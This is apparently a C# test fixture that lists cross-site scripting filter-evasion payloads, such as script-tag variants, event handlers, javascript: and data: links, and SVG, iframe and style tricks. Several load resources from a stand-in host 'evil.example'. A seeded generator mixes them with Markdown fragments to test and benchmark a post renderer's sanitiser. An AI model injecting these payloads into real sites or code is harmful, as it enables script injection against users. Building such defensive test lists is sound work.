namespace CoproWeek.Tests.Posts;

/// <summary>
/// Post bodies written to slip script past the renderer, in the spirit of the OWASP XSS filter evasion cheat sheet
/// (our own list), plus fragments for the generated posts.
/// </summary>
internal static class HostilePosts
{
    public const string OwnImage = "https://coproductionweek.example/posts/tea-party/images/1.jpg";

    public static readonly string[] Payloads =
    [
        // Script tags in many spellings.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script/xss src=https://evil.example/x.js></script>",
        "<<script>alert(1);//<</script>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "text <script>alert(1)</script> more text",
        "\"><script>alert(1)</script>",
        "</p><script>alert(1)</script><p>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"x\" ONERROR=\"alert(1)\">",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        // Dangerous URL schemes, with entity, whitespace and case tricks.
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1)  )",
        "[click](java\tscript:alert(1))",
        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[click](&#x6A;avascript&#x3A;alert(1))",
        "[click](javascript&colon;alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
        "[click](\\javascript:alert(1))",
        "[click](//evil.example/path)",
        "[click](/relative/path)",
        "[click](#fragment)",
        "[click](https://ok.example \"title\" onclick=\"alert(1)\")",
        "[click](https://ok.example\"onmouseover=\"alert(1))",
        // Images from elsewhere, or with script for a source.
        "![x](javascript:alert(1))",
        "![x](https://evil.example/tracker.gif)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x\" onerror=\"alert(1)](" + OwnImage + ")",
        "![x](" + OwnImage + "\"onerror=\"alert(1))",
        "[![x](https://evil.example/a.png)](javascript:alert(1))",
        // Reference links and autolinks.
        "[click][evil]\n\n[evil]: javascript:alert(1)",
        "[click][evil]\n\n[evil]: <data:text/html,<script>alert(1)</script>>",
        "![x][pic]\n\n[pic]: https://evil.example/a.png",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<mailto:someone@example.org?subject=<script>>",
        "www.example.org/<script>alert(1)</script>",
        "https://example.org/\"onmouseover=\"alert(1)",
        // SVG, MathML, frames, objects, styles and forms.
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<form action=\"https://evil.example\"><button formaction=\"javascript:alert(1)\">Go</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        // HTML smuggled through Markdown code, HTML blocks, comments and entities.
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "    <iframe src=javascript:alert(1)>",
        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "**<img src=x onerror=alert(1)>**",
        "> <script>alert(1)</script>",
        "- <a href=javascript:alert(1)>list</a>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "# <script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"https://ok.example\" target=\"_blank\">new window</a>",
    ];

    /// <summary>Pieces of ordinary Markdown that generated posts mix with <see cref="Payloads"/>.</summary>
    public static readonly string[] Markdown =
    [
        "# ", "## ", "### ", "###### ", "- ", "* ", "1. ", "> ", "    ", "```\n", "`", "**", "*", "_", "~~", "[", "]", "(", ")",
        "![", "<", ">", "\"", "'", "&", "&#", ";", ":", "\n", "\n\n", " ", "|", "|---|", "\\", "[ref]: ", "---\n",
        "Co-production Week", "people who use services", "carers", "equal partners", "tea and biscuits",
        "https://example.org/page?a=1&b=2", "mailto:hello@example.org", "hello@example.org", "www.example.org",
        "javascript", "alert(1)", "data:", "vbscript", "onerror=", "on", "src=", "href=", "<a", "<img", "<script", "</",
        HostilePosts.OwnImage, "(" + HostilePosts.OwnImage + ")",
    ];

    /// <summary>
    /// Posts of 1 to 39 pieces, a quarter of them attacks and the rest Markdown, the same for the same seed. The safety
    /// test renders 10,000 of them; the render-post benchmark times the same 10,000 (this file is linked into it).
    /// </summary>
    public static IEnumerable<string> Generated(int count, int seed = 20270705)
    {
        var random = new Random(seed);
        var builder = new System.Text.StringBuilder();
        for (var i = 0; i < count; i++)
        {
            builder.Clear();
            var pieces = random.Next(1, 40);
            for (var p = 0; p < pieces; p++)
            {
                var pool = random.Next(4) == 0 ? Payloads : Markdown;
                builder.Append(pool[random.Next(pool.Length)]);
            }
            yield return builder.ToString();
        }
    }
}
